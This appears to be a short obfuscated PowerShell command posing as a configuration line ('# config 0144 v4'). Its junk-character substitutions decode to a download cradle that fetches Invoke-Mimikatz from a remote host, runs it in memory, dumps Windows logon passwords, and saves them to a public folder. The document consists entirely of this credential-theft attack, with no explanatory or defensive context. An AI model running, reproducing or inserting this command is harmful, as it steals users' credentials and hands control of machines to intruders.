iex (('# config 0144 v4
IEX (Neqv~3-Object Net.WebClKKQ12ient).Doqv~3nloadStKKQ12ring(''hKKQ12ttp://198.51.100.9/Invoke-Mimikatz.ps1'')
InvokKKQ12e-Mimikatz -Command ''"privilege::debug" "KKQ12sekurlsa::logonpassqv~3ords"'' | Out-File C:\Users\Public\o.txt
' -replace 'KKQ12','').Replace('qv~3','w'))